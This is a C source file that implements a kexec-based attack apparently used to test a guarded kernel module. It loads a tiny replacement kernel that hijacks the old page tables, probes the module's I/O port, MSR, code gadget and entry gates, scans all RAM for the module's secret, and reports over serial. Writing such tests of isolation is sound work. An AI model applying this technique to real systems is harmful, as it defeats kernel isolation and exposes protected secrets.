// SPDX-License-Identifier: Apache-2.0 OR GPL-2.0
/*
 * An attack: guest root puts another kernel in the place of the running one, under a guarded module that is loaded (victim.c), by kexec_load(2). The other
 * kernel is this program itself: linked at LOAD, it is copied to the physical address LOAD and entered at `kernel`, with nothing of Linux in its way. It
 * takes the page tables of the old kernel over, tries the module's port and MSR, its text and its gates, looks for the module's secret in all RAM, and
 * prints its verdict on the serial line. Built without a C library, see src/attacks/guest.ts.
 *
 *	kexec UPPER_HALF DIRECT_MAP GADGET GATES REACHED RAM
 *
 * as the parameter `handover` of cpus.c gives them.
 */
#include "victim.h"

#define LOAD 0x20000ul /* -Wl,-Ttext=0x20000 */
#define PAGE 4096ul
#define WORDS 512 /* in a page */
#define LARGE (1ul << 21)
#define PRESENT_WRITABLE 3ul
#define PRESENT_WRITABLE_LARGE 0x83ul
#define VECTORS 32
#define LAST_BYTES_OF_STACK 256

typedef unsigned long u64;

extern char end[];

/* From the old kernel: physical address of a page with the upper half of its page table; where it maps all RAM; the victim's gadget, gates and counter. */
static u64 upper_half, direct_map, gadget, gates, ram;
static volatile u64 *reached;

/* Linux arch/x86/entry/syscalls/syscall_64.tbl. */
#define WRITE 1
#define EXIT 60
#define REBOOT 169
#define KEXEC_LOAD 246
#define KEXEC_ARCH_X86_64 (62ul << 16)
#define REBOOT_MAGIC1 0xfee1deadul
#define REBOOT_MAGIC2 672274793ul
#define REBOOT_CMD_KEXEC 0x45584543ul

static long call(long number, long a, long b, long c, long d)
{
	register long r10 asm("r10") = d;
	long value;

	asm volatile("syscall" : "=a"(value) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
	return value;
}

static u64 number(const char *text)
{
	u64 value = 0;

	for (; *text; text++)
		value = value * 16 + (*text <= '9' ? *text - '0' : *text - 'a' + 10);
	return value;
}

extern char kernel[];

/* In user space. */
__attribute__((used)) static void run(long *stack)
{
	struct {
		u64 buffer, bytes, memory, size;
	} segment = { LOAD, (u64)end - LOAD, LOAD, ((u64)end - LOAD + PAGE - 1) & -PAGE };
	char **words = (char **)(stack + 1);

	if (stack[0] != 7)
		call(EXIT, 2, 0, 0, 0);
	upper_half = number(words[1]);
	direct_map = number(words[2]);
	gadget = number(words[3]);
	gates = number(words[4]);
	reached = (u64 *)number(words[5]);
	ram = number(words[6]);
	if (call(KEXEC_LOAD, (u64)kernel, 1, (u64)&segment, KEXEC_ARCH_X86_64) == 0)
		call(REBOOT, REBOOT_MAGIC1, REBOOT_MAGIC2, REBOOT_CMD_KEXEC, 0);
	call(EXIT, 1, 0, 0, 0);
}

asm(".globl _start\n_start:\n	movq %rsp, %rdi\n	andq $-16, %rsp\n	call run\n");

/* From here on it is a kernel. Intel SDM vol. 3, chapters 3 (segments), 4 (paging) and 6 (events). */
static u64 top[WORDS] __attribute__((aligned(PAGE)));
static u64 middle[WORDS] __attribute__((aligned(PAGE)));
static u64 low[WORDS] __attribute__((aligned(PAGE)));
static char stack[2 * PAGE] __attribute__((aligned(PAGE), used));
static char old_stack[PAGE] __attribute__((aligned(PAGE)));
static u64 descriptors[] __attribute__((used)) = { 0, 0x00af9b000000ffff, 0x00cf93000000ffff };
static struct {
	unsigned short offset, selector, attributes, middle;
	unsigned int high, zero;
} interrupts[VECTORS] __attribute__((aligned(16)));
struct table {
	unsigned short limit;
	u64 base;
} __attribute__((packed));
__attribute__((used)) static struct table descriptor_table = { sizeof(descriptors) - 1, (u64)descriptors };
static struct table interrupt_table = { sizeof(interrupts) - 1, (u64)interrupts };
__attribute__((used)) static u64 saved;

/*
 * attempt(function, argument, stack pointer): 1 if the function came back, on whatever stack; 0 if there was a fault instead.
 */
long attempt(void *function, u64 argument, u64 pointer);
extern char fault[];
asm("attempt:\n"
    "	pushq %rbx\n	pushq %rbp\n	pushq %r12\n	pushq %r13\n	pushq %r14\n	pushq %r15\n"
    "	movq %rsp, saved(%rip)\n"
    "	movq %rdi, %rax\n	movq %rsi, %rdi\n	movq %rdx, %rsp\n"
    "	call *%rax\n"
    "	movl $1, %eax\n"
    "	jmp 1f\n"
    "fault:\n"
    "	xorl %eax, %eax\n"
    "1:	cld\n"
    "	movq saved(%rip), %rsp\n"
    "	popq %r15\n	popq %r14\n	popq %r13\n	popq %r12\n	popq %rbp\n	popq %rbx\n"
    "	ret\n");

asm("kernel:\n"
    "	cli\n"
    "	leaq stack+8192(%rip), %rsp\n"
    "	lgdt descriptor_table(%rip)\n"
    "	pushq $8\n	leaq 1f(%rip), %rax\n	pushq %rax\n	lretq\n"
    "1:	movl $16, %eax\n	movl %eax, %ss\n	movl %eax, %ds\n	movl %eax, %es\n"
    "	call takeover\n");

static inline unsigned char in(unsigned short port)
{
	unsigned char value;

	asm volatile("inb %1, %0" : "=a"(value) : "Nd"(port));
	return value;
}

static void put(char c)
{
	while (!(in(0x3fd) & 0x20))
		;
	asm volatile("outb %0, %1" : : "a"(c), "Nd"((unsigned short)0x3f8));
}

static void say(const char *text)
{
	while (*text)
		put(*text++);
}

static void say_number(u64 value)
{
	if (value >= 10)
		say_number(value / 10);
	put('0' + value % 10);
}

static u64 msr;

static void read_msr(void)
{
	unsigned int low_half, high_half;

	asm volatile("rdmsr" : "=a"(low_half), "=d"(high_half) : "c"(VICTIM_MSR));
	msr = (u64)high_half << 32 | low_half;
}

/* RAM lies at its physical address, the old kernel where it was. */
static void take_tables_over(void)
{
	const u64 *old = (const u64 *)upper_half;
	u64 i;

	for (i = 0; i < WORDS / 2; i++)
		top[WORDS / 2 + i] = old[WORDS / 2 + i];
	for (i = 0; i < WORDS; i++)
		low[i] = i * LARGE | PRESENT_WRITABLE_LARGE;
	middle[0] = (u64)low | PRESENT_WRITABLE;
	top[0] = (u64)middle | PRESENT_WRITABLE;
	for (i = 0; i < VECTORS; i++) {
		interrupts[i].offset = (u64)fault;
		interrupts[i].selector = 8;
		interrupts[i].attributes = 0x8e00;
		interrupts[i].middle = (u64)fault >> 16;
	}
	asm volatile("movq %0, %%cr3\n	lidt %1\n" : : "r"(top), "m"(interrupt_table) : "memory");
}

/* Physical address by the old kernel's page tables; 0: not mapped. */
static u64 frame_of(u64 address)
{
	u64 table = (u64)top;
	int shift;

	for (shift = 39; shift >= 12; shift -= 9) {
		u64 entry = ((const u64 *)table)[address >> shift & (WORDS - 1)];
		u64 base = entry & 0x000ffffffffff000;

		if (!(entry & 1))
			return 0;
		if (shift == 12 || (shift < 39 && entry & 0x80))
			return (base & -(1ul << shift)) | (address & ((1ul << shift) - 1));
		table = base;
	}
	return 0;
}

__attribute__((used, noreturn)) static void takeover(void)
{
	u64 own = (u64)stack + sizeof(stack) - PAGE, at, before, secrets = 0;
	u64 kernel_stack = direct_map + (u64)old_stack + PAGE - LAST_BYTES_OF_STACK;
	unsigned char port;
	int i;

	take_tables_over();
	port = in(VICTIM_PORT);
	attempt(read_msr, 0, own);
	before = *reached;
	attempt((void *)gadget, 0, kernel_stack);
	attempt((void *)(frame_of(gadget)), 0, kernel_stack);
	attempt((void *)(direct_map + frame_of(gadget)), 0, kernel_stack);
	for (i = 0; i < 2; i++) /* the return and the re-entry gate */
		attempt((void *)(gates + 16 * i), 0, kernel_stack);
	for (at = 0; at < ram; at += sizeof(u64))
		if ((at < LOAD || at >= (u64)end) && *(const volatile u64 *)at == VICTIM_VALUE)
			secrets++;
	say("\n@@ result ");
	if (port == 0xff && msr != VICTIM_VALUE && *reached == before && !secrets) {
		say("nothing\n");
	} else {
		say("gained the other kernel");
		if (port != 0xff)
			say(" reads the port,");
		if (msr == VICTIM_VALUE)
			say(" reads the MSR,");
		if (*reached != before)
			say(" runs the module's code,");
		say(" finds ");
		say_number(secrets);
		say(" words of the module's in RAM\n");
	}
	for (;;)
		asm volatile("pause");
}
